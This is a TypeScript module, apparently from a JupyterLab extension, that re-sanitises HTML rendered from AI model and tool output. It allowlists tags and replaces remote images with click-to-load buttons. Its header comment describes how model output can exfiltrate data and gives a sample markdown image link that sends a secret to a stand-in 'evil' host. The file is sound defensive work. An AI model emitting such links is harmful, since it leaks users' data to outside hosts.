/**
 * Model and tool output is untrusted: a second sanitising pass over what JupyterLab's own sanitizer left.
 *
 * JupyterLab's sanitizer (used for untrusted outputs) removes scripts and event handlers but keeps what a page may
 * show from a document the user opened: `<img src="https://…">` (so an answer can make the browser fetch a URL that
 * carries data out — `![x](https://evil/?q=SECRET)`), `<audio>`/`<video>`, forms and inputs, inline styles, and
 * buttons that run JupyterLab commands (`data-commandlinker-command`). An answer is not a document the user chose,
 * so this pass keeps an allowlist of what markdown makes, and turns every image that is not inline raster data into a
 * "Load image from HOST" button: nothing is fetched until the user clicks it (see `remoteImage`). It is a complete
 * sanitizer on its own (the unit tests feed it the raw corpus), built on the same library JupyterLab uses.
 *
 * No JupyterLab import here: node's test runner loads this module as it is.
 */

import sanitizeHtml from 'sanitize-html';

/** The class of an image's placeholder button. */
export const REMOTE_IMAGE_CLASS = 'eca-remote-image';

/** The only images shown without a click: inline raster data (no request, no script: SVG is left out). */
export const RASTER_DATA_IMAGE = /^data:image\/(?:png|jpe?g|gif|webp|bmp|avif);base64,[a-z0-9+/=\s]*$/i;

const TAGS = [
  'a', 'abbr', 'b', 'blockquote', 'br', 'button', 'code', 'dd', 'del', 'details', 'div', 'dl', 'dt', 'em', 'h1',
  'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'input', 'kbd', 'li', 'mark', 'ol', 'p', 'pre', 'q', 's', 'samp',
  'small', 'span', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr', 'u',
  'ul', 'var'
];
// dropped with everything inside them (other tags not allowed are unwrapped: their text stays, as text)
const DROPPED_WITH_CONTENT = [
  'script', 'style', 'textarea', 'option', 'noscript', 'iframe', 'object', 'embed', 'svg', 'math', 'template',
  'title', 'xmp', 'noembed', 'noframes', 'select', 'frameset'
];

/** Control characters and whitespace a browser ignores inside a URL's scheme (`java\tscript:`). */
// eslint-disable-next-line no-control-regex
const IGNORED_IN_SCHEME = /[\u0000-\u0020\u007f]/g;

/** Whether `url` is one a click may load as an image: http(s), protocol-relative or relative — no other scheme. */
export function isLoadableImage(url: string): boolean {
  const compact = url.replace(IGNORED_IN_SCHEME, '');
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(compact);
  return compact !== '' && (scheme === null || /^https?$/i.test(scheme[1]));
}

/** Whom a click on an image's placeholder asks: the URL's host, or this server for a relative path. */
export function imageHost(url: string): string {
  try {
    const host = new URL(url.trim(), 'relative://this.server/').host;
    return host === 'this.server' || host === '' ? 'this server' : host;
  } catch {
    return 'this server';
  }
}

/** The first URL of a `srcset` (`a.png 1x, b.png 2x`). */
function firstCandidate(srcset: string | undefined): string {
  return (srcset ?? '').trim().split(/\s+/)[0]?.replace(/,$/, '') ?? '';
}

const OPTIONS: sanitizeHtml.IOptions = {
  allowedTags: TAGS,
  allowedAttributes: {
    '*': ['class', 'title', 'lang', 'dir', 'data-jupyter-id'],
    a: ['href', 'target', 'rel', 'referrerpolicy'],
    img: ['src', 'alt', 'width', 'height'],
    button: ['type', 'data-eca-src', 'data-eca-alt'],
    input: ['type', 'checked', 'disabled'],
    td: ['align', 'colspan', 'rowspan'],
    th: ['align', 'colspan', 'rowspan'],
    ol: ['start'],
    details: ['open']
  },
  allowedSchemes: ['http', 'https', 'mailto'],
  allowedSchemesByTag: { img: ['data'] },
  allowedSchemesAppliedToAttributes: ['href', 'src'],
  nonTextTags: DROPPED_WITH_CONTENT,
  disallowedTagsMode: 'discard',
  allowVulnerableTags: false,
  transformTags: {
    img: (_tag, attribs): sanitizeHtml.Tag => {
      const src = (attribs.src ?? '').trim() || firstCandidate(attribs.srcset);
      if (RASTER_DATA_IMAGE.test(src)) {
        return { tagName: 'img', attribs: { src, alt: attribs.alt ?? '' } };
      }
      if (!isLoadableImage(src)) {
        return { tagName: 'span', attribs: {}, text: attribs.alt ?? '' };
      }
      const host = imageHost(src);
      return {
        tagName: 'button',
        attribs: {
          type: 'button',
          class: REMOTE_IMAGE_CLASS,
          title: `Fetches ${src}`,
          'data-eca-src': src,
          'data-eca-alt': attribs.alt ?? ''
        },
        text: `Load image from ${host}` + (attribs.alt ? `: ${attribs.alt}` : '')
      };
    },
    // only the placeholders above are buttons: one in the answer (a form's, or a JupyterLab command's) is its text
    button: () => ({ tagName: 'span', attribs: {} }),
    // markdown's task lists are disabled checkboxes; any other input is nothing
    input: (_tag, attribs): sanitizeHtml.Tag =>
      attribs.type === 'checkbox'
        ? { tagName: 'input', attribs: { type: 'checkbox', disabled: 'disabled', ...('checked' in attribs ? { checked: 'checked' } : {}) } }
        : { tagName: 'span', attribs: {} },
    a: (_tag, attribs) => ({
      tagName: 'a',
      attribs: {
        ...attribs,
        target: '_blank',
        rel: 'noopener noreferrer nofollow',
        referrerpolicy: 'no-referrer'
      }
    })
  }
};

/** Untrusted HTML reduced to what cannot run, fetch, submit or run a command; remote images become placeholders. */
export function hardenHtml(html: string): string {
  return sanitizeHtml(html, OPTIONS);
}

/**
 * The image a placeholder stands for, once the user clicked it (null when the placeholder is not one of ours or
 * its URL is not loadable): no referrer goes with it.
 */
export function remoteImage(placeholder: Element, doc: Document): HTMLImageElement | null {
  const src = placeholder.getAttribute('data-eca-src') ?? '';
  if (!placeholder.classList.contains(REMOTE_IMAGE_CLASS) || !isLoadableImage(src)) {
    return null;
  }
  const img = doc.createElement('img');
  img.referrerPolicy = 'no-referrer';
  img.alt = placeholder.getAttribute('data-eca-alt') ?? '';
  img.src = src;
  return img;
}
